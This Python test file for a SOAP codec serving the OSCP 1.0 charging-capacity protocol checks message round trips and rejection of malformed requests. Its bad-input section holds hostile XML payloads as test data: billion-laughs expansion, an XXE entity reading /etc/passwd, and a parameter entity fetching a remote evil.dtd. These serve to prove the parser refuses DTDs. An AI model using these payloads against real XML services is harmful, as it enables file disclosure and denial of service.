"""SoapCodec: every operation both ways in both SOAP versions, and every kind of bad input as the right fault."""

import re
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from service.oscp.v1.messages import (
    CPO_OPERATIONS,
    DSO_OPERATIONS,
    MAX_BLOCKS,
    NAMESPACE,
    AdjustStatus,
    BackupCapacity,
    CableCapacityForecast,
    FaultCode,
    ForecastedBlock,
    GetCapacityForecastRequest,
    GetCapacityForecastResponse,
    HeartbeatRequest,
    HeartbeatResponse,
    Message,
    OscpFault,
    PhaseIndicator,
    RequestAdjustedCapacityRequest,
    RequestAdjustedCapacityResponse,
    ResponseStatus,
    UnitOfMeasure,
    UpdateAggregatedUsageRequest,
    UpdateAggregatedUsageResponse,
    UpdateCableCapacityForecastRequest,
    UpdateCableCapacityForecastResponse,
    UsageBlock,
)
from service.oscp.v1.soap import SoapCodec, SoapFault, SoapVersion

WSDL_DIR = Path(__file__).resolve().parents[2] / "wsdl"
SOAP11 = "http://schemas.xmlsoap.org/soap/envelope/"
SOAP12 = "http://www.w3.org/2003/05/soap-envelope"
WSSE = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"
TOKEN_PROFILE = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0"  # noqa: S105 - a URI
CT = {SoapVersion.SOAP11: "text/xml; charset=utf-8", SoapVersion.SOAP12: "application/soap+xml; charset=utf-8"}
SCHEMA = etree.XMLSchema(etree.parse(str(WSDL_DIR / "oscp-1.0.xsd")))

CET = timezone(timedelta(hours=1))
T0 = datetime(2026, 11, 24, 17, 0, tzinfo=CET)
QUARTER = timedelta(minutes=15)
ALL, ONE = PhaseIndicator.ALL, PhaseIndicator.ONE
AMPERE, KW = UnitOfMeasure.A, UnitOfMeasure.KW


def block(i: int, capacity: str, phase: PhaseIndicator = ALL, unit: UnitOfMeasure = AMPERE) -> ForecastedBlock:
    return ForecastedBlock(Decimal(capacity), phase, unit, T0 + i * QUARTER, T0 + (i + 1) * QUARTER)


def forecast(cable: str, *capacities: str, backup: bool = True) -> CableCapacityForecast:
    blocks = tuple(block(i, c) for i, c in enumerate(capacities))
    return CableCapacityForecast(cable, blocks, BackupCapacity(Decimal("6"), ALL, AMPERE) if backup else None)


USAGE = UsageBlock(Decimal("7.25"), ONE, KW, T0.astimezone(UTC), (T0 + QUARTER).astimezone(UTC))

# operation -> (request, response) for each service; variants below add the edge cases.
DSO_MESSAGES: dict[str, tuple[Message, Message]] = {
    "RequestAdjustedCapacity": (
        RequestAdjustedCapacityRequest("CABLE-1", (block(0, "32"), block(1, "32"))),
        RequestAdjustedCapacityResponse(
            AdjustStatus.PARTIALLY_ACCEPTED, forecast("CABLE-1", "24", "24.5"), reason="only 8 A free"
        ),
    ),
    "UpdateAggregatedUsage": (
        UpdateAggregatedUsageRequest("CABLE-1", (USAGE,)),
        UpdateAggregatedUsageResponse(ResponseStatus.ACCEPTED),
    ),
    "GetCapacityForecast": (
        GetCapacityForecastRequest("CABLE-1"),
        GetCapacityForecastResponse((forecast("CABLE-1", "16", "16"), forecast("CABLE-2", "40", backup=False))),
    ),
    "Heartbeat": (HeartbeatRequest(), HeartbeatResponse(datetime(2026, 11, 24, 16, 7, 30, tzinfo=UTC), 300)),
}
CPO_MESSAGES: dict[str, tuple[Message, Message]] = {
    "UpdateCableCapacityForecast": (
        UpdateCableCapacityForecastRequest((forecast("CABLE-1", "24", "24"), forecast("CABLE-2", "0"))),
        UpdateCableCapacityForecastResponse(ResponseStatus.REJECTED, reason="cable CABLE-2 is not ours"),
    ),
    "Heartbeat": (HeartbeatRequest(), HeartbeatResponse(T0, 60)),
}
EXTRA = [  # (service, operation, request, response): empty and boundary cases
    ("dso", "GetCapacityForecast", GetCapacityForecastRequest(), GetCapacityForecastResponse()),
    (
        "dso",
        "RequestAdjustedCapacity",
        RequestAdjustedCapacityRequest("C" * 64, tuple(block(i, "1.001") for i in range(MAX_BLOCKS))),
        RequestAdjustedCapacityResponse(AdjustStatus.REJECTED, forecast("C" * 64, "0", backup=False)),
    ),
]
CASES = [
    *(("dso", op, req, resp) for op, (req, resp) in DSO_MESSAGES.items()),
    *(("cpo", op, req, resp) for op, (req, resp) in CPO_MESSAGES.items()),
    *EXTRA,
]
CASE_IDS = [f"{service}-{op}-{i}" for i, (service, op, _, _) in enumerate(CASES)]


@pytest.fixture(scope="module")
def codecs() -> dict[str, SoapCodec]:
    return {
        "dso": SoapCodec(WSDL_DIR / "oscp-1.0-dso.wsdl", DSO_OPERATIONS),
        "cpo": SoapCodec(WSDL_DIR / "oscp-1.0-cpo.wsdl", CPO_OPERATIONS),
    }


@pytest.fixture(scope="module")
def dso(codecs: dict[str, SoapCodec]) -> SoapCodec:
    return codecs["dso"]


def body_child(envelope: bytes, version: SoapVersion) -> Any:
    root = etree.fromstring(envelope)
    assert root.tag == f"{{{version.envelope_namespace}}}Envelope"
    (child,) = root.find(f"{{{version.envelope_namespace}}}Body")
    return child


def assert_schema_valid(element: Any) -> None:
    SCHEMA.assertValid(etree.ElementTree(element))


# --- round trips ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("version", list(SoapVersion))
@pytest.mark.parametrize("case", CASES, ids=CASE_IDS)
def test_requests_and_responses_round_trip_through_the_wsdl_model(
    codecs: dict[str, SoapCodec], case: tuple[str, str, Message, Message], version: SoapVersion
) -> None:
    service, op_name, request_message, response_message = case
    codec = codecs[service]
    operation = (DSO_OPERATIONS if service == "dso" else CPO_OPERATIONS)[op_name]

    sent = codec.encode_request(version, operation, request_message, "cpo-7", "s3cret pass")
    assert_schema_valid(body_child(sent, version))
    call = codec.decode_request(sent, CT[version], f'"urn://OSCP/2015/04/{op_name}"')
    assert (call.version, call.operation, call.message) == (version, operation, request_message)
    assert (call.username, call.password) == ("cpo-7", "s3cret pass")

    reply = codec.encode_response(version, operation, response_message)
    child = body_child(reply, version)
    assert child.tag == f"{{{NAMESPACE}}}{op_name}Response"
    assert_schema_valid(child)
    assert codec.decode_response(version, operation, reply) == response_message


def test_response_children_come_in_contract_order(dso: SoapCodec) -> None:
    operation = DSO_OPERATIONS["RequestAdjustedCapacity"]
    reply = dso.encode_response(SoapVersion.SOAP11, operation, DSO_MESSAGES["RequestAdjustedCapacity"][1])
    child = body_child(reply, SoapVersion.SOAP11)
    assert [etree.QName(c).localname for c in child] == ["status", "reason", "capacityForecast"]
    forecast_node = child[2]
    assert [etree.QName(c).localname for c in forecast_node] == [
        "cableId",
        "forecastedBlock",
        "forecastedBlock",
        "backupCapacity",
    ]
    assert [etree.QName(c).localname for c in forecast_node[1]] == ["capacity", "phase", "unit", "startTime", "endTime"]


def test_decimals_are_plain_digits_within_the_schema_resolution_and_datetimes_keep_their_offset(
    dso: SoapCodec,
) -> None:
    operation = DSO_OPERATIONS["RequestAdjustedCapacity"]
    blocks = (block(0, "1E+1"), block(1, "12.34567"), block(2, "-0"), block(3, "0.00"))
    utc_block = ForecastedBlock(Decimal("5"), ALL, AMPERE, T0.astimezone(UTC), (T0 + QUARTER).astimezone(UTC))
    message = RequestAdjustedCapacityResponse(
        AdjustStatus.ACCEPTED, CableCapacityForecast("CABLE-1", (*blocks, utc_block))
    )
    child = body_child(dso.encode_response(SoapVersion.SOAP12, operation, message), SoapVersion.SOAP12)
    assert_schema_valid(child)
    ns = {"o": NAMESPACE}
    # 12.34567 floors to the XSD's 0.001 resolution: a budget must never round up.
    assert child.xpath("o:capacityForecast/o:forecastedBlock/o:capacity/text()", namespaces=ns) == [
        "10",
        "12.345",
        "0",
        "0.00",
        "5",
    ]
    assert child.xpath("o:capacityForecast/o:forecastedBlock/o:startTime/text()", namespaces=ns) == [
        "2026-11-24T17:00:00+01:00",
        "2026-11-24T17:15:00+01:00",
        "2026-11-24T17:30:00+01:00",
        "2026-11-24T17:45:00+01:00",
        "2026-11-24T16:00:00Z",
    ]


def test_decoded_datetimes_are_aware_with_plain_timezone_offsets(dso: SoapCodec) -> None:
    operation = DSO_OPERATIONS["UpdateAggregatedUsage"]
    sent = dso.encode_request(SoapVersion.SOAP11, operation, DSO_MESSAGES["UpdateAggregatedUsage"][0])
    message = dso.decode_request(sent, "text/xml").message
    assert isinstance(message, UpdateAggregatedUsageRequest)
    assert message.usage_block[0].start_time.tzinfo is UTC
    assert message.usage_block[0].average_usage == Decimal("7.25")


def test_a_naive_datetime_in_our_own_reply_is_a_programming_error(dso: SoapCodec) -> None:
    naive = HeartbeatResponse(datetime(2026, 11, 24, 17, 0), 60)  # noqa: DTZ001 - the point of the test
    with pytest.raises(ValueError, match="naive datetime"):
        dso.encode_response(SoapVersion.SOAP11, DSO_OPERATIONS["Heartbeat"], naive)


def test_a_reply_of_the_wrong_type_is_a_programming_error(dso: SoapCodec) -> None:
    with pytest.raises(TypeError, match="answers with HeartbeatResponse"):
        dso.encode_response(SoapVersion.SOAP11, DSO_OPERATIONS["Heartbeat"], UpdateAggregatedUsageResponse("x"))  # type: ignore[arg-type]


HEARTBEAT = f'<HeartbeatRequest xmlns="{NAMESPACE}"/>'


def envelope11(body: str, header: str = "") -> bytes:
    return f'<soap:Envelope xmlns:soap="{SOAP11}">{header}<soap:Body>{body}</soap:Body></soap:Envelope>'.encode()


def envelope12(body: str, header: str = "") -> bytes:
    return f'<env:Envelope xmlns:env="{SOAP12}">{header}<env:Body>{body}</env:Body></env:Envelope>'.encode()


RAC_BODY = """
  <oscp:RequestAdjustedCapacityRequest xmlns:oscp="urn://OSCP/2015/04/">
    <!-- the CPO's wish for two quarters -->
    <oscp:cableId>CABLE-1</oscp:cableId>
    <oscp:requestedBlock>
      <oscp:capacity> 32.0 </oscp:capacity><oscp:phase>ALL</oscp:phase><oscp:unit>A</oscp:unit>
      <oscp:startTime>2026-11-24T17:00:00+01:00</oscp:startTime><oscp:endTime>2026-11-24T16:15:00Z</oscp:endTime>
    </oscp:requestedBlock>
    <oscp:requestedBlock>
      <oscp:capacity>32</oscp:capacity><oscp:phase>ALL</oscp:phase><oscp:unit>A</oscp:unit>
      <oscp:startTime>2026-11-24T17:15:00+01:00</oscp:startTime><oscp:endTime>2026-11-24T17:30:00+01:00</oscp:endTime>
    </oscp:requestedBlock>
  </oscp:RequestAdjustedCapacityRequest>
"""


@pytest.mark.parametrize(
    ("envelope", "content_type"),
    [
        (f'<S:Envelope xmlns:S="{SOAP11}"><S:Header/><S:Body>{RAC_BODY}</S:Body></S:Envelope>', "text/xml"),
        (f'<Envelope xmlns="{SOAP11}"><Body>{RAC_BODY}</Body></Envelope>', 'text/xml;charset="UTF-8"'),
        (
            f'<?xml version="1.0" encoding="ISO-8859-1"?>\n<soapenv:Envelope xmlns:soapenv="{SOAP12}">\n'
            f"<soapenv:Body>{RAC_BODY}</soapenv:Body>\n</soapenv:Envelope>\n",
            'application/soap+xml; charset=ISO-8859-1; action="urn://OSCP/2015/04/RequestAdjustedCapacity"',
        ),
        (
            f'<a:Envelope xmlns:a="{SOAP12}" xmlns:b="urn://OSCP/2015/04/"><a:Body>'
            + RAC_BODY.replace("oscp:", "b:").replace(' xmlns:b="urn://OSCP/2015/04/"', "")
            + "</a:Body></a:Envelope>",
            "Application/SOAP+XML",
        ),
    ],
    ids=["soap11-S-prefix", "soap11-default-ns", "soap12-latin1-with-action", "soap12-prefix-on-envelope"],
)
def test_hand_written_envelopes_with_other_prefixes_decode(dso: SoapCodec, envelope: str, content_type: str) -> None:
    call = dso.decode_request(envelope.encode("latin-1"), content_type)
    assert call.operation.name == "RequestAdjustedCapacity"
    assert call.message == RequestAdjustedCapacityRequest("CABLE-1", (block(0, "32.0"), block(1, "32")))
    assert call.username is None
    assert call.password is None


def test_empty_requests_decode(dso: SoapCodec) -> None:
    for body in (HEARTBEAT, f"<HeartbeatRequest xmlns='{NAMESPACE}'>\n  </HeartbeatRequest>"):
        call = dso.decode_request(envelope11(body), "text/xml")
        assert call.message == HeartbeatRequest()
    get_all = envelope12(f'<GetCapacityForecastRequest xmlns="{NAMESPACE}"/>')
    assert dso.decode_request(get_all, "application/soap+xml").message == GetCapacityForecastRequest()


def security(password_type: str | None = f"{TOKEN_PROFILE}#PasswordText", *, must_understand: str = "1") -> str:
    type_attribute = f' Type="{password_type}"' if password_type else ""
    return (
        f'<soap:Header><wsse:Security xmlns:wsse="{WSSE}" soap:mustUnderstand="{must_understand}">'
        f"<wsse:UsernameToken><wsse:Username>cpo-7</wsse:Username>"
        f"<wsse:Password{type_attribute}>pa ss</wsse:Password></wsse:UsernameToken></wsse:Security></soap:Header>"
    )


@pytest.mark.parametrize("password_type", [f"{TOKEN_PROFILE}#PasswordText", None])
def test_a_username_token_with_password_text_gives_the_credentials(dso: SoapCodec, password_type: str | None) -> None:
    call = dso.decode_request(envelope11(HEARTBEAT, security(password_type)), "text/xml")
    assert (call.username, call.password) == ("cpo-7", "pa ss")


def test_header_blocks_for_other_actors_or_without_must_understand_are_ignored(dso: SoapCodec) -> None:
    header = (
        '<soap:Header><x:Trace xmlns:x="urn:x">1</x:Trace>'
        '<x:Route xmlns:x="urn:x" soap:mustUnderstand="1" soap:actor="urn:some-proxy"/>'
        '<x:Hint xmlns:x="urn:x" soap:mustUnderstand="0"/></soap:Header>'
    )
    assert dso.decode_request(envelope11(HEARTBEAT, header), "text/xml").message == HeartbeatRequest()


@pytest.mark.parametrize(
    "soap_action",
    [None, "", '""', '"urn://OSCP/2015/04/Heartbeat"', "urn://OSCP/2015/04/Heartbeat", "Heartbeat"],
)
def test_a_soap_action_naming_the_body_operation_or_nothing_is_accepted(
    dso: SoapCodec, soap_action: str | None
) -> None:
    assert dso.decode_request(envelope11(HEARTBEAT), "text/xml", soap_action).operation.name == "Heartbeat"


@pytest.mark.parametrize(
    ("content_type", "version"),
    [
        ("text/xml", SoapVersion.SOAP11),
        ("text/xml; charset=utf-8", SoapVersion.SOAP11),
        ("TEXT/XML;charset=UTF-8", SoapVersion.SOAP11),
        ("application/soap+xml", SoapVersion.SOAP12),
        ('application/soap+xml; charset=utf-8; action="urn://OSCP/2015/04/Heartbeat"', SoapVersion.SOAP12),
        ("application/xml", None),
        ("application/json", None),
        ("", None),
        (None, None),
    ],
)
def test_the_content_type_decides_the_soap_version(
    dso: SoapCodec, content_type: str | None, version: SoapVersion | None
) -> None:
    assert dso.version_of(content_type) == version


# --- bad input -----------------------------------------------------------------------------------------


def rac(capacity: str = "16", phase: str = "ALL", start: str = "2026-11-24T17:00:00+01:00", blocks: int = 1) -> str:
    block_xml = (
        f"<requestedBlock><capacity>{capacity}</capacity><phase>{phase}</phase><unit>A</unit>"
        f"<startTime>{start}</startTime><endTime>2026-11-24T17:15:00+01:00</endTime></requestedBlock>"
    )
    return (
        f'<RequestAdjustedCapacityRequest xmlns="{NAMESPACE}"><cableId>CABLE-1</cableId>'
        f"{block_xml * blocks}</RequestAdjustedCapacityRequest>"
    )


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
    )
    + b"]>\n"
    + envelope11(
        f'<GetCapacityForecastRequest xmlns="{NAMESPACE}"><cableId>&lol9;</cableId></GetCapacityForecastRequest>'
    )
)
XXE = b'<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n' + envelope11(
    f'<GetCapacityForecastRequest xmlns="{NAMESPACE}"><cableId>&xxe;</cableId></GetCapacityForecastRequest>'
)
PARAMETER_ENTITY = b'<!DOCTYPE d [<!ENTITY % r SYSTEM "http://192.0.2.1/evil.dtd"> %r;]>' + envelope11(HEARTBEAT)
UTF16_DTD = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]>').encode("utf-16") + envelope11(
    HEARTBEAT
).decode().encode("utf-16-le")
UTF32_DTD = ('<?xml version="1.0" encoding="UTF-32"?><!DOCTYPE x>' + envelope11(HEARTBEAT).decode()).encode("utf-32")
DIGEST = security(f"{TOKEN_PROFILE}#PasswordDigest")
TOKEN = "<wsse:UsernameToken><wsse:Username>a</wsse:Username><wsse:Password>b</wsse:Password></wsse:UsernameToken>"  # noqa: S105
TWO_TOKENS = f'<soap:Header><wsse:Security xmlns:wsse="{WSSE}">{TOKEN}{TOKEN}</wsse:Security></soap:Header>'


S12 = "application/soap+xml"


@dataclass(frozen=True)
class Bad:
    """A bad request, and the sender fault it must give (InvalidRequest in SOAP 1.1 unless said otherwise)."""

    body: bytes
    pattern: str
    content_type: str | None = "text/xml"
    soap_action: str | None = None
    version: SoapVersion = SoapVersion.SOAP11
    envelope_fault: str | None = None
    code: FaultCode = FaultCode.INVALID_REQUEST


def bad12(body: bytes, pattern: str, content_type: str = S12, **kwargs: Any) -> Bad:
    return Bad(body, pattern, content_type, version=SoapVersion.SOAP12, **kwargs)


OSCP = f'xmlns="{NAMESPACE}"'
MISSING_BLOCKS = f"<RequestAdjustedCapacityRequest {OSCP}><cableId>C</cableId></RequestAdjustedCapacityRequest>"
BAD: dict[str, Bad] = {
    "no content type": Bad(
        envelope12(HEARTBEAT),
        r"content type \(none\) is not SOAP; send text/xml \(SOAP 1.1\) or application/soap\+xml \(SOAP 1.2\)$",
        None,
    ),
    "json content type": Bad(envelope11(HEARTBEAT), "content type application/json is not SOAP", "application/json"),
    "soap 1.2 envelope as text/xml": Bad(
        envelope12(HEARTBEAT),
        r"Envelope is in namespace http://www.w3.org/2003/05/soap-envelope \(SOAP 1.2\) but the content type says "
        r"SOAP 1.1",
        envelope_fault="VersionMismatch",
    ),
    "soap 1.1 envelope as application/soap+xml": bad12(
        envelope11(HEARTBEAT), r"\(SOAP 1.1\) but the content type says SOAP 1.2", envelope_fault="VersionMismatch"
    ),
    "unknown envelope namespace": Bad(
        f'<e:Envelope xmlns:e="urn:soap-2.0"><e:Body>{HEARTBEAT}</e:Body></e:Envelope>'.encode(),
        r"namespace urn:soap-2.0 \(unknown\)",
        envelope_fault="VersionMismatch",
    ),
    "not an envelope": Bad(HEARTBEAT.encode(), "the document element is HeartbeatRequest, not a SOAP Envelope"),
    "dtd": Bad(
        b'<!DOCTYPE Envelope SYSTEM "soap.dtd">' + envelope11(HEARTBEAT),
        "the request contains a DTD or an entity declaration; DTDs are not accepted",
    ),
    "billion laughs": Bad(BILLION_LAUGHS, "DTDs are not accepted"),
    "xxe external entity": Bad(XXE, "DTDs are not accepted"),
    "parameter entity": Bad(PARAMETER_ENTITY, "DTDs are not accepted"),
    "dtd in utf-16": Bad(UTF16_DTD, "DTDs are not accepted"),
    "dtd in utf-32": Bad(UTF32_DTD, "the request contains a DTD; DTDs are not accepted"),
    "undeclared entity": Bad(
        envelope11(f"<GetCapacityForecastRequest {OSCP}><cableId>&x;</cableId></GetCapacityForecastRequest>"),
        "not well-formed XML: Entity 'x' not defined, line 1",
    ),
    "bad enum": bad12(
        envelope12(rac(phase="FOUR")),
        r"does not match the OSCP 1.0 schema: line 1, RequestAdjustedCapacityRequest/requestedBlock/phase: "
        r"The value 'FOUR' is not an element of the set \{'ONE', 'TWO', 'THREE', 'ALL'\}",
    ),
    "negative capacity": Bad(
        envelope11(rac(capacity="-0.5")),
        r"RequestAdjustedCapacityRequest/requestedBlock/capacity: The value '-0.5' is less than the minimum "
        r"value allowed \('0'\)",
    ),
    "too many fraction digits": Bad(
        envelope11(rac(capacity="1.0001")),
        r"capacity: The value '1.0001' has more fractional digits than are allowed \('3'\)",
    ),
    "exponent capacity": Bad(
        envelope11(rac(capacity="1e3")), r"capacity: '1e3' is not a valid value of the atomic type 'NonNegativeDecimal'"
    ),
    "naive datetime": bad12(
        envelope12(rac(start="2026-11-24T17:00:00")),
        r"requestedBlock/startTime: 2026-11-24T17:00:00 has no UTC offset; add one, e.g. Z or \+01:00",
    ),
    "not a datetime": Bad(
        envelope11(rac(start="tomorrow+01:00")),
        r"startTime: 'tomorrow\+01:00' is not a valid value of the atomic type 'OffsetDateTime'",
    ),
    "missing required element": Bad(
        envelope11(MISSING_BLOCKS),
        r"RequestAdjustedCapacityRequest: Missing child element\(s\). Expected is \( requestedBlock \)",
    ),
    "empty cable id": Bad(
        envelope11(f"<GetCapacityForecastRequest {OSCP}><cableId/></GetCapacityForecastRequest>"),
        r"GetCapacityForecastRequest/cableId: The value has a length of '0'; this underruns the allowed minimum",
    ),
    "193 blocks": Bad(
        envelope11(rac(blocks=MAX_BLOCKS + 1)),
        r"RequestAdjustedCapacityRequest/requestedBlock\[193\]: This element is not expected. "
        r"At most 192 blocks per message.",
    ),
    "unknown child element": Bad(
        envelope11(f"<GetCapacityForecastRequest {OSCP}><force>1</force></GetCapacityForecastRequest>"),
        r"GetCapacityForecastRequest/force: This element is not expected. Expected is \( cableId \)",
    ),
    "content in heartbeat": bad12(
        envelope12(f"<HeartbeatRequest {OSCP}><force>1</force></HeartbeatRequest>"),
        "HeartbeatRequest: Element content is not allowed, because the content type is empty",
    ),
    "empty soap body": bad12(
        envelope12(""), "the SOAP Body must hold exactly one element, e.g. HeartbeatRequest; it holds nothing"
    ),
    "empty http body": Bad(b"", "the request body is empty; send a SOAP 1.1 Envelope"),
    "non-xml": Bad(
        b"cableId=CABLE-1", r"the request is not well-formed XML: Start tag expected, '<' not found, line 1, column 1$"
    ),
    "truncated xml": Bad(envelope11(HEARTBEAT)[:-10], "not well-formed XML"),
    "two body children": Bad(
        envelope11(HEARTBEAT + HEARTBEAT),
        "must hold exactly one element, e.g. HeartbeatRequest; it holds HeartbeatRequest, HeartbeatRequest",
    ),
    "text in body": Bad(envelope11("hello" + HEARTBEAT), "must hold exactly one element"),
    "no body": Bad(
        f'<soap:Envelope xmlns:soap="{SOAP11}"><soap:Header/></soap:Envelope>'.encode(),
        "the Envelope must hold an optional Header and then one Body; it holds nothing",
    ),
    "unknown operation": Bad(
        envelope11(f"<DeleteCableRequest {OSCP}/>"),
        "unknown operation DeleteCableRequest; this endpoint serves RequestAdjustedCapacity, "
        "UpdateAggregatedUsage, GetCapacityForecast, Heartbeat$",
    ),
    "operation in another namespace": Bad(
        envelope11('<HeartbeatRequest xmlns="urn://OSCP/2020/"/>'),
        r"unknown operation \{urn://OSCP/2020/\}HeartbeatRequest; this endpoint serves",
    ),
    "a cpo operation at the dso": Bad(
        envelope11(f"<UpdateCableCapacityForecastRequest {OSCP}/>"),
        "unknown operation UpdateCableCapacityForecastRequest",
    ),
    "soapaction mismatch": Bad(
        envelope11(HEARTBEAT),
        "SOAPAction 'urn://OSCP/2015/04/RequestAdjustedCapacity' does not match the Body, which holds "
        "HeartbeatRequest; send SOAPAction 'urn://OSCP/2015/04/Heartbeat' or none",
        soap_action='"urn://OSCP/2015/04/RequestAdjustedCapacity"',
    ),
    "soap 1.2 action parameter mismatch": bad12(
        envelope12(HEARTBEAT),
        "SOAPAction 'urn://OSCP/2015/04/GetCapacityForecast' does not match the Body",
        f'{S12}; action="urn://OSCP/2015/04/GetCapacityForecast"',
    ),
    "mustUnderstand unknown header": Bad(
        envelope11(HEARTBEAT, '<soap:Header><t:Tx xmlns:t="urn:tx" soap:mustUnderstand="1"/></soap:Header>'),
        r"header \{urn:tx\}Tx is marked mustUnderstand but this endpoint does not process it",
        envelope_fault="MustUnderstand",
    ),
    "mustUnderstand true in soap 1.2": bad12(
        envelope12(HEARTBEAT, '<env:Header><t:Tx xmlns:t="urn:tx" env:mustUnderstand="true"/></env:Header>'),
        "is marked mustUnderstand",
        envelope_fault="MustUnderstand",
    ),
    "password digest": Bad(
        envelope11(HEARTBEAT, DIGEST),
        "the UsernameToken password type is PasswordDigest; only PasswordText is supported",
        code=FaultCode.NOT_AUTHORIZED,
    ),
    "username token without password": Bad(
        envelope11(HEARTBEAT, TWO_TOKENS.replace(TOKEN * 2, TOKEN.replace("<wsse:Password>b</wsse:Password>", ""))),
        "the UsernameToken needs a Username and a Password",
    ),
    "two username tokens": Bad(envelope11(HEARTBEAT, TWO_TOKENS), "more than one UsernameToken"),
}


@pytest.mark.parametrize("name", list(BAD))
def test_bad_input_is_the_right_soap_fault(dso: SoapCodec, name: str) -> None:
    case = BAD[name]
    with pytest.raises(SoapFault) as caught:
        dso.decode_request(case.body, case.content_type, case.soap_action)
    fault = caught.value
    assert (fault.version, fault.envelope_fault, fault.sender, fault.code) == (
        case.version,
        case.envelope_fault,
        True,
        case.code,
    )
    assert fault.message == str(fault)
    assert re.search(case.pattern, fault.message), fault.message

    status, reply, reply_type = dso.encode_fault(fault)
    expected_code = case.envelope_fault or ("Client" if case.version is SoapVersion.SOAP11 else "Sender")
    assert parse_fault(reply, case.version) == {
        "code": f"{{{case.version.envelope_namespace}}}{expected_code}",
        "reason": fault.message,
        "detail": (case.code.value, fault.message),
    }
    assert status == (400 if expected_code == "Sender" else 500)
    assert reply_type == CT[case.version]


def test_an_oversized_body_is_refused_before_parsing(codecs: dict[str, SoapCodec]) -> None:
    small = SoapCodec(WSDL_DIR / "oscp-1.0-cpo.wsdl", CPO_OPERATIONS, max_body_bytes=100)
    with pytest.raises(SoapFault, match="the request is 1010 bytes; the limit is 100"):
        small.decode_request(b"<" * 1010, "text/xml")


def parse_fault(reply: bytes, version: SoapVersion) -> dict[str, Any]:
    root = etree.fromstring(reply)
    env = version.envelope_namespace
    (fault,) = root.find(f"{{{env}}}Body")
    assert fault.tag == f"{{{env}}}Fault"
    if version is SoapVersion.SOAP11:
        code_text, reason = fault.findtext("faultcode"), fault.findtext("faultstring")
        code_node, detail = fault.find("faultcode"), fault.find("detail")
    else:
        code_node = fault.find(f"{{{env}}}Code/{{{env}}}Value")
        code_text = code_node.text
        text = fault.find(f"{{{env}}}Reason/{{{env}}}Text")
        assert text.get("{http://www.w3.org/XML/1998/namespace}lang") == "en"
        reason, detail = text.text, fault.find(f"{{{env}}}Detail")
    prefix, _, local = code_text.partition(":")
    (oscp_fault,) = detail
    assert_schema_valid(oscp_fault)
    return {
        "code": f"{{{code_node.nsmap[prefix]}}}{local}",
        "reason": reason,
        "detail": (oscp_fault.findtext(f"{{{NAMESPACE}}}code"), oscp_fault.findtext(f"{{{NAMESPACE}}}message")),
    }


@pytest.mark.parametrize("version", list(SoapVersion))
@pytest.mark.parametrize(
    ("code", "sender"),
    [
        (FaultCode.UNKNOWN_CABLE, True),
        (FaultCode.NOT_SUBSCRIBED, True),
        (FaultCode.NOT_AUTHORIZED, True),
        (FaultCode.INVALID_REQUEST, True),
        (FaultCode.INTERNAL_ERROR, False),
    ],
)
def test_handler_faults_map_to_client_or_server_and_round_trip_to_the_caller(
    dso: SoapCodec, version: SoapVersion, code: FaultCode, sender: bool
) -> None:
    fault = SoapFault.from_oscp_fault(version, OscpFault(code, f"{code} <&> happened"))
    assert fault.sender is sender
    status, reply, _ = dso.encode_fault(fault)
    assert status == (400 if sender and version is SoapVersion.SOAP12 else 500)
    with pytest.raises(OscpFault) as caught:
        dso.decode_response(version, DSO_OPERATIONS["Heartbeat"], reply)
    assert (caught.value.code, caught.value.message) == (code, f"{code} <&> happened")


def test_a_soap12_version_mismatch_names_the_supported_envelopes(dso: SoapCodec) -> None:
    with pytest.raises(SoapFault) as caught:
        dso.decode_request(envelope11(HEARTBEAT), "application/soap+xml")
    _, reply, _ = dso.encode_fault(caught.value)
    root = etree.fromstring(reply)
    supported = root.findall(f"{{{SOAP12}}}Header/{{{SOAP12}}}Upgrade/{{{SOAP12}}}SupportedEnvelope")
    qnames = []
    for node in supported:
        prefix, _, local = node.get("qname").partition(":")
        qnames.append(f"{{{node.nsmap[prefix]}}}{local}")
    assert qnames == [f"{{{SOAP12}}}Envelope", f"{{{SOAP11}}}Envelope"]


@pytest.mark.parametrize(
    "reply",
    [
        b"",
        b"<html>502 Bad Gateway</html>",
        envelope11(
            f"<HeartbeatResponse {OSCP}><currentTime>2026-11-24T17:00:00</currentTime>"
            "<heartbeatInterval>60</heartbeatInterval></HeartbeatResponse>"
        ),
        envelope11(f"<UpdateAggregatedUsageResponse {OSCP}><status>Accepted</status></UpdateAggregatedUsageResponse>"),
    ],
    ids=["empty", "html", "naive-datetime", "wrong-response"],
)
def test_decode_response_refuses_what_is_not_a_valid_reply(dso: SoapCodec, reply: bytes) -> None:
    with pytest.raises(ValueError, match=r"(?i)empty|envelope|schema|not HeartbeatResponse"):
        dso.decode_response(SoapVersion.SOAP11, DSO_OPERATIONS["Heartbeat"], reply)
